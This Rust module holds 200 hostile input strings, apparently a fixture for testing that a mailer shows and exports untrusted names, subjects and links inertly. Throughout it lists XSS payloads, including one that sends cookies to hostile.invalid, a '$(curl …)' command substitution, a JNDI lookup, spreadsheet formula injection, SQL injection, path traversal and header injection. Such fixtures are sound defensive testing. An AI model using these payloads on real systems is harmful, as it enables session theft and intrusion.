//! Two hundred strings that a mailer, a provider or a recipient may put where a text belongs: a name, a subject, a reason, a link, an
//! agent, an address's local part. Whoever shows, exports or answers them must show them as they are and do nothing that they say.
//!
//! A string that runs as a script sets [`MARK`] or opens a dialog; one that leads away leads to [`HOST`]; one that a spreadsheet would
//! take for a formula begins as [`FORMULA_STARTS`] say.

/// Name of the global that a script out of one of the strings sets.
pub const MARK: &str = "mailtallyWasHere";

/// Where the strings lead: a host that is nobody's (RFC 2606).
pub const HOST: &str = "hostile.invalid";

/// First characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection).
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A kind of strings: its name, and the strings.
pub type Kind = (&'static str, &'static [&'static str]);

/// All kinds.
pub const KINDS: [Kind; 12] = [
    ("script", SCRIPT),
    ("handler", HANDLER),
    ("fetch", FETCH),
    ("scheme", SCHEME),
    ("breakout", BREAKOUT),
    ("style", STYLE),
    ("template", TEMPLATE),
    ("formula", FORMULA),
    ("header", HEADER),
    ("query", QUERY),
    ("unicode", UNICODE),
    ("shape", SHAPE),
];

/// All strings, in a fixed order.
pub fn all() -> impl Iterator<Item = &'static str> {
    KINDS.into_iter().flat_map(|(_, strings)| strings.iter().copied())
}

const SCRIPT: &[&str] = &[
    "<script>mailtallyWasHere=1</script>",
    "<script>alert(1)</script>",
    "<SCRIPT>mailtallyWasHere=1</SCRIPT>",
    "<script src=https://hostile.invalid/a.js></script>",
    "<script src=//hostile.invalid/a.js></script>",
    "<script type=module>mailtallyWasHere=1</script>",
    "<script>mailtallyWasHere=1//",
    "<scr<script>ipt>mailtallyWasHere=1</scr</script>ipt>",
    "<script/x>mailtallyWasHere=1</script>",
    "<script\n>mailtallyWasHere=1</script\n>",
    "</script><script>mailtallyWasHere=1</script>",
    "<svg><script>mailtallyWasHere=1</script></svg>",
    "<svg><script href=https://hostile.invalid/b.js /></svg>",
    "<math><mtext></form><form><mglyph><style></math><script>mailtallyWasHere=1</script>",
    "<noscript><p title=\"</noscript><script>mailtallyWasHere=1</script>\">",
    "<template><script>mailtallyWasHere=1</script></template>",
    "<!--><script>mailtallyWasHere=1</script>-->",
    "<![CDATA[<script>mailtallyWasHere=1</script>]]>",
    "<?xml version=\"1.0\"?><script>mailtallyWasHere=1</script>",
    "&lt;script&gt;mailtallyWasHere=1&lt;/script&gt;",
    "&#60;script&#62;mailtallyWasHere=1&#60;/script&#62;",
    "%3Cscript%3EmailtallyWasHere%3D1%3C%2Fscript%3E",
    "\\u003cscript\\u003emailtallyWasHere=1\\u003c/script\\u003e",
    "<script>fetch('https://hostile.invalid/'+document.cookie)</script>",
];

const HANDLER: &[&str] = &[
    "<img src=x onerror=mailtallyWasHere=1>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=mailtallyWasHere=1>",
    "<img src=x:x onerror=\"mailtallyWasHere=1\">",
    "<svg onload=mailtallyWasHere=1>",
    "<svg/onload=mailtallyWasHere=1>",
    "<body onload=mailtallyWasHere=1>",
    "<iframe onload=mailtallyWasHere=1></iframe>",
    "<input autofocus onfocus=mailtallyWasHere=1>",
    "<select autofocus onfocus=mailtallyWasHere=1>",
    "<textarea autofocus onfocus=mailtallyWasHere=1>",
    "<details open ontoggle=mailtallyWasHere=1>",
    "<video><source onerror=mailtallyWasHere=1></video>",
    "<audio src=x onerror=mailtallyWasHere=1>",
    "<marquee onstart=mailtallyWasHere=1>",
    "<object onerror=mailtallyWasHere=1 data=x>",
    "<style onload=mailtallyWasHere=1></style>",
    "<a onmouseover=mailtallyWasHere=1>over</a>",
    "<p tabindex=1 onfocus=mailtallyWasHere=1 autofocus>",
    "<svg><animate onbegin=mailtallyWasHere=1 attributeName=x dur=1s>",
    "<svg><set onbegin=mailtallyWasHere=1 attributeName=x to=1>",
    "<div onpointerover=mailtallyWasHere=1>x</div>",
];

const FETCH: &[&str] = &[
    "<img src=https://hostile.invalid/pixel.gif>",
    "<img srcset=\"https://hostile.invalid/p.gif 2x\">",
    "<iframe src=https://hostile.invalid/></iframe>",
    "<iframe srcdoc=\"<script>parent.mailtallyWasHere=1</script>\"></iframe>",
    "<embed src=https://hostile.invalid/e>",
    "<object data=https://hostile.invalid/o></object>",
    "<link rel=stylesheet href=https://hostile.invalid/s.css>",
    "<link rel=prefetch href=https://hostile.invalid/next>",
    "<link rel=dns-prefetch href=//hostile.invalid>",
    "<meta http-equiv=refresh content=\"0;url=https://hostile.invalid/\">",
    "<base href=https://hostile.invalid/>",
    "<form action=https://hostile.invalid/><button>Send</button></form>",
    "<button form=f formaction=https://hostile.invalid/>Go</button>",
    "<video poster=https://hostile.invalid/v.png></video>",
    "<audio src=https://hostile.invalid/a.ogg autoplay></audio>",
    "<svg><image href=https://hostile.invalid/i.svg /></svg>",
    "<svg><use href=https://hostile.invalid/u.svg#x /></svg>",
    "<table background=https://hostile.invalid/bg.png><tr><td>x</table>",
    "<portal src=https://hostile.invalid/></portal>",
    "<a href=https://hostile.invalid/ ping=https://hostile.invalid/ping>click</a>",
];

const SCHEME: &[&str] = &[
    "javascript:mailtallyWasHere=1",
    "JaVaScRiPt:mailtallyWasHere=1",
    " javascript:mailtallyWasHere=1",
    "java\nscript:mailtallyWasHere=1",
    "java\tscript:mailtallyWasHere=1",
    "javascript&colon;mailtallyWasHere=1",
    "javascript://hostile.invalid/%0amailtallyWasHere=1",
    "data:text/html,<script>mailtallyWasHere=1</script>",
    "data:text/html;base64,PHNjcmlwdD5tYWlsdGFsbHlXYXNIZXJlPTE8L3NjcmlwdD4=",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://hostile.invalid/click?u=1",
    "//hostile.invalid/path",
    "\\\\hostile.invalid\\share",
    "http://127.0.0.1:8080@hostile.invalid/",
    "blob:https://hostile.invalid/0",
    "mailto:ada@hostile.invalid?bcc=all@hostile.invalid",
    "<a href=\"javascript:mailtallyWasHere=1\">here</a>",
];

const BREAKOUT: &[&str] = &[
    "\"><script>mailtallyWasHere=1</script>",
    "'><script>mailtallyWasHere=1</script>",
    "\" onmouseover=\"mailtallyWasHere=1",
    "' onmouseover='mailtallyWasHere=1",
    "\" autofocus onfocus=mailtallyWasHere=1 x=\"",
    "`onfocus=mailtallyWasHere=1 `",
    "\"/><img src=x onerror=mailtallyWasHere=1>",
    "</title><script>mailtallyWasHere=1</script>",
    "</textarea><script>mailtallyWasHere=1</script>",
    "</style><script>mailtallyWasHere=1</script>",
    "</select><script>mailtallyWasHere=1</script>",
    "</table></div></main></body><script>mailtallyWasHere=1</script>",
    "</svg><script>mailtallyWasHere=1</script>",
    "--><script>mailtallyWasHere=1</script><!--",
    "]]><script>mailtallyWasHere=1</script>",
    "'; mailtallyWasHere=1; //",
    "\"; mailtallyWasHere=1; //",
    "\\\"; mailtallyWasHere=1; //",
    "</option><option selected>x",
    "x</q></code></a><b id=content>",
    "<div id=content data-live>x</div>",
    "&quot;&gt;&lt;b&gt;",
];

const STYLE: &[&str] = &[
    "<style>*{display:none}</style>",
    "<style>@import 'https://hostile.invalid/s.css';</style>",
    "<p style=\"background:url(https://hostile.invalid/b)\">",
    "<p style=\"position:fixed;inset:0;background:red\">",
    "<p style=\"width:expression(mailtallyWasHere=1)\">",
    "<font size=99999>big</font>",
    "<h1>Heading</h1>",
    "<plaintext>",
    "<xmp><b>x</b>",
    "<table><tr><td>nested",
    "<dialog open>Your session ended. Log in at hostile.invalid</dialog>",
];

const TEMPLATE: &[&str] = &[
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% for x in y %}{{x}}{% endfor %}",
    "{{constructor.constructor('mailtallyWasHere=1')()}}",
    "${jndi:ldap://hostile.invalid/a}",
    "%s%s%s%n%x",
    "{0} {name} {}",
    "{{name}}",
    "$(curl https://hostile.invalid/)",
    "`curl https://hostile.invalid/`",
    "__proto__",
    "constructor",
    "[object Object]",
];

const FORMULA: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"https://hostile.invalid/\",\"Click\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=IMPORTXML(\"https://hostile.invalid/\",\"//a\")",
    "\"=1+1\"",
    ";=1+1",
    ",=1+1,\"x\"\"y\"",
    "a,b\nc,d",
    "a\r\nb;c",
];

const HEADER: &[&str] = &[
    "x\r\nSet-Cookie: mailtally=stolen",
    "x\r\n\r\n<script>mailtallyWasHere=1</script>",
    "x\nLocation: https://hostile.invalid/",
    "x\"; filename=\"/etc/passwd",
    "ada@example.org\r\nBcc: all@hostile.invalid",
    "event: version\ndata: 1\n\n",
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "\u{feff}name",
];

const QUERY: &[&str] = &[
    "' OR '1'='1",
    "'; DROP TABLE campaigns; --",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..",
    ".",
    "/",
    "//",
    "a/b?c=d#e",
    "a%00b",
    "%",
    "%zz",
    "?lang=fr&token=x",
    "#content",
    "a&b=c&sort=name",
    "100%",
    "*",
    "\\",
];

const UNICODE: &[&str] = &[
    "\u{202e}gnp.elif",
    "\u{2066}isolate without an end",
    "\u{202d}\u{202e}\u{2067}all ways",
    "Z\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}\u{0301}a\u{0321}\u{0321}\u{0321}lgo",
    "\u{200b}\u{200c}\u{200d}\u{2060}",
    "a\u{0}b",
    "\u{1}\u{7}\u{8}\u{b}\u{c}\u{1b}[31mred\u{7f}",
    "line\u{2028}separator\u{2029}paragraph",
    "\u{fffe}\u{ffff}\u{10ffff}",
    "\u{fffd}",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦🏳\u{fe0f}\u{200d}🌈",
    "ﬃ ﷽ ㍿ ①",
    "مرحبا بالعالم",
    "שלום עולם",
    "İıŞşßẞΣσς",
    "аdа (Cyrillic а)",
    "＜script＞mailtallyWasHere=1＜/script＞",
    "\u{e0001}\u{e0041}tags",
];

const SHAPE: &[&str] = &[
    " ",
    "   leading and trailing   ",
    "0",
    "-0",
    "null",
    "NaN",
    "true",
    "1e309",
    "a very long name that goes on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on and on",
];

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn there_are_two_hundred_each_once_and_they_say_how_they_are_noticed() {
        let strings: BTreeSet<&str> = all().collect();
        assert_eq!((all().count(), strings.len()), (200, 200));
        assert!(strings.iter().filter(|text| text.contains(MARK)).count() > 50);
        assert!(strings.iter().filter(|text| text.contains(HOST)).count() > 30);
        let formulas = strings.iter().filter(|text| text.starts_with(FORMULA_STARTS)).count();
        assert!(formulas >= 10, "{formulas}");
    }
}
